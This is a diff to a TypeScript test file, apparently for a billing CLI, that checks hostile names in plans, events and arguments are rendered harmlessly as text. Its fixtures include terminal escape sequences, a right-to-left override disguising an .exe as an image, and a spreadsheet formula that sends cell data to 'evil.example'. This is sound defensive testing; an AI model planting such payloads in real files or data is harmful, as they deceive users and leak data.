@@ -27,7 +27,9 @@ import { makeProject, removeFolder, temporaryFolder } from './world.js';
 
 /** Sets a terminal's title, clears it, writes in red with the one-byte introducer, reverses the order, hides, breaks. */
 const hostile =
-  'A\u001b]0;owned\u0007\u001b[2J\u009b31m\u202egpj.exe\u2066x\u2069\u200f\u061c\r\nB\t\u0000\u007f\u0085\u2028\u2029C';
+  'A\u001b]0;owned\u0007\u001b[2J\u009b31m\u202egpj.exe\u2066x\u2069\u200f\u061c\r\nB\t\u0000\u007f\u0085\u2028\u2029\ud800C';
+/** Events and arguments cannot hold NUL or half a character. */
+const sendable = hostile.replace('\u0000', '').replace('\ud800', '');
 const formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
 
 // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters that must not appear
@@ -61,7 +63,7 @@ const commands: readonly (readonly string[])[] = [
 /** The names of the plan, of its tax and of its metrics are no better than those of the customer. */
 function spoilDefinitions(): void {
   const file = join(folder, 'plans', 'pro.yaml');
-  const name = JSON.stringify(hostile.replace('\u0000', ''));
+  const name = JSON.stringify(sendable);
   const text = readFileSync(file, 'utf8').replaceAll(/name: (Calls|Traffic|VAT|Pro)/g, `name: ${name}`);
   expect(text.match(/owned/g)?.length).toBe(4);
   writeFileSync(
@@ -81,10 +83,10 @@ beforeAll(async () => {
     { ...event, transaction_id: 'plain', properties: { user: formula } },
     {
       ...event,
-      transaction_id: `id ${hostile.replace('\u0000', '')}`,
-      properties: { user: hostile.replace('\u0000', '') },
+      transaction_id: `id ${sendable}`,
+      properties: { user: sendable },
     },
-    { ...event, code: hostile.replace('\u0000', ''), transaction_id: 'code', properties: {} },
+    { ...event, code: sendable, transaction_id: 'code', properties: {} },
   ];
   writeFileSync(join(folder, 'evil.ndjson'), lines.map((line) => JSON.stringify(line)).join('\n'));
   const setUp: Ended[] = [
@@ -132,7 +134,7 @@ describe('names with escape sequences', () => {
 
   it('are told in errors as text', async () => {
     for (const args of [
-      ['customers', 'get', hostile.replace('\u0000', '')],
+      ['customers', 'get', sendable],
       ['plans', 'get', '\u001b[31mplan'],
       [`\u001b]0;x\u0007command`],
       ['ingest', '\u001b[2Jmissing.ndjson'],
